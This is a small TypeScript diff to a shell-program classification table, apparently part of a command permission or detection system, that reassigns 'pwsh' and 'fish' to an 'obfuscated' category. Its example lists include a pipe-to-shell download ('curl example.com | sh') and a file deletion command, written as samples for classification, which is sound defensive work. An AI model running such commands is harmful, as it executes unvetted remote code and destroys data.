@@ -31,8 +31,8 @@ export const SHELLS: ProgramFamily = {
   examples: {
     read: ["bash -c 'ls'"],
     execute: ['sh script.sh'],
-    interactive: ['zsh', 'pwsh'],
+    interactive: ['zsh'],
     destructive: ["dash -c 'rm x'"],
-    obfuscated: ['curl example.com | sh', "fish -c 'ls'"],
+    obfuscated: ['curl example.com | sh', "fish -c 'ls'", 'fish', 'pwsh'],
   },
 };
